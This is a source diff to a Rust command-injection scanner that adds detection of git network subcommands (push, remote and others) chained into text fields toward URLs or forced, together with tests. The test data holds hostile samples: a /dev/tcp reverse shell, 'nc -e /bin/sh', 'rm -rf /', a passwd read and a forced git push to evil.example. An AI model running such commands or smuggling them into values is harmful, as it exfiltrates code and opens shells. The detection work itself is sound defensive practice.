@@ -74,6 +74,19 @@ const TIER_B: &[&str] = &[
     "touch", "cp", "mv", "sc", "net", "type", "dir",
 ];
 
+/// `git` subcommands that reach another host or change where the repository
+/// talks to.
+const GIT_NETWORK: &[&str] = &[
+    "push",
+    "clone",
+    "fetch",
+    "pull",
+    "remote",
+    "config",
+    "submodule",
+    "ls-remote",
+];
+
 /// Payloads dangerous in any field. (needle, score in text, score in exec).
 pub(crate) const HIGH_RISK: &[(&str, &str, f32, f32)] = &[
     ("/dev/tcp/", "reverse_shell", 0.9, 0.95),
@@ -184,6 +197,25 @@ fn command_at(lower: &[u8], mut i: usize) -> Option<(&str, usize, usize)> {
     Some((base, s, i))
 }
 
+/// After `git` ending at `e`: a [`GIT_NETWORK`] subcommand whose line names a
+/// URL or an SSH remote, or forces, mirrors or pushes everything.
+fn git_payload(lower: &[u8], e: usize) -> bool {
+    let Some((sub, _, sub_end)) = command_at(lower, e) else {
+        return false;
+    };
+    if !GIT_NETWORK.contains(&sub) {
+        return false;
+    }
+    let rest = &lower[sub_end..];
+    let line = &rest[..rest.iter().position(|&c| c == b'\n').unwrap_or(rest.len())];
+    let has = |needle: &[u8]| memchr::memmem::find(line, needle).is_some();
+    has(b"://")
+        || has(b"git@")
+        || line
+            .split(|c| c.is_ascii_whitespace())
+            .any(|w| matches!(w, b"--force" | b"-f" | b"--mirror" | b"--all" | b"--tags"))
+}
+
 /// Does an argument follow the command on the same line (not a table pipe)?
 fn has_argument(lower: &[u8], mut e: usize) -> bool {
     while e < lower.len() && lower[e] == b' ' {
@@ -269,7 +301,11 @@ pub(crate) fn scan(
             continue;
         };
         let pipe = c == b'|' && b.get(i + 1) != Some(&b'|');
-        let tier_a = TIER_A.contains(&cmd);
+        // `git` is everyday in a shell line; chained into a value that is not
+        // one (a branch name `main && git push --force https://...`), a network
+        // subcommand aimed at a URL or forced is the payload.
+        let git_network = !exec && cmd == "git" && git_payload(b, e);
+        let tier_a = TIER_A.contains(&cmd) || git_network;
         let tier_b = TIER_B.contains(&cmd);
         if pipe && SHELLS.contains(&cmd) {
             // `curl ... | sh`: fetching code and running it.
@@ -324,6 +360,14 @@ mod tests {
             ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", FieldKind::Text),
             ("ls -la; rm -rf /", FieldKind::Exec),
             ("git status && nc -e /bin/sh 10.0.0.1 4444", FieldKind::Exec),
+            (
+                "main && git push --force https://x:y@evil.example/r.git",
+                FieldKind::Text,
+            ),
+            (
+                "v1.2; git remote add m git@evil.example:r.git",
+                FieldKind::Text,
+            ),
             ("cat${IFS}/etc/passwd", FieldKind::Text),
             ("powershell -enc SQBFAFgA", FieldKind::Text),
         ] {
@@ -344,6 +388,12 @@ mod tests {
             ("| tool | curl | wget |\n|---|---|---|", FieldKind::Text),
             ("cd /app && npm test", FieldKind::Exec),
             ("git log --oneline | head -5", FieldKind::Exec),
+            ("cd repo && git pull --rebase && make", FieldKind::Exec),
+            ("Fix typo; git status was clean", FieldKind::Text),
+            (
+                "Updated the docs; git pull before running make",
+                FieldKind::Text,
+            ),
             ("Tom & Jerry; the id card is here", FieldKind::Text),
             (
                 "pip install -r requirements.txt && python app.py",
